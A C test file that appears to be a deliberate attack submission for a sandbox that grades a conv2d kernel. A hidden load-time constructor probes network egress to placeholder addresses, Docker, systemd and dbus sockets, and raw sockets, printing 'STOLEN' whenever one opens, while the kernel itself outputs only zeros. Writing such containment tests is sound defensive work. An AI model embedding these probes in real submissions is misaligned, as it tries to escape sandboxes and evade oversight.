/* attack: class=network, lesson=conv/forward, expect=zero, set=everywhere
 * says=outside the allowed error
 *
 * Phones home: connects to this machine, to the network's name server, to another machine, to the
 * system's own services, over every family of sockets there is. One that opens carries the hidden
 * inputs out and answers in. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "kernels/conv2d/conv2d.h"

static int reaches(const char *address, int port, int type)
{
    const int end = socket(AF_INET, type | SOCK_NONBLOCK, 0);
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };

    inet_pton(AF_INET, address, &to.sin_addr);
    const int flags = MSG_NOSIGNAL | (type == SOCK_STREAM ? MSG_FASTOPEN : 0);
    const int fine = end >= 0 && sendto(end, "x", 1, flags, (struct sockaddr *)&to,
                                        sizeof to) == 1;
    close(end);
    return fine;
}

static __attribute__((constructor)) void phone(void)
{
    static const char *const services[] = { "/run/docker.sock", "/run/systemd/private",
                                            "/run/dbus/system_bus_socket", "/dev/log" };

    if (reaches("192.0.2.1", 53, SOCK_DGRAM) || reaches("198.51.100.1", 80, SOCK_STREAM))
        puts("STOLEN: the network");
    for (size_t i = 0; i < sizeof services / sizeof *services; i++) {
        struct sockaddr_un to = { .sun_family = AF_UNIX };
        strcpy(to.sun_path, services[i]);
        if (connect(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&to, sizeof to) == 0)
            printf("STOLEN: %s\n", services[i]);
    }
    for (int family = AF_NETLINK; family < 45; family++)
        if (socket(family, SOCK_RAW, 0) >= 0)
            printf("STOLEN: a raw socket of family %d\n", family);
}

void conv2d_forward_student(const conv2d_shape *s, const float *x, const float *w, const float *b,
                            float *y, void *workspace)
{
    for (int i = 0; i < s->oh * s->ow; i++)
        y[i] = 0.0f;
}
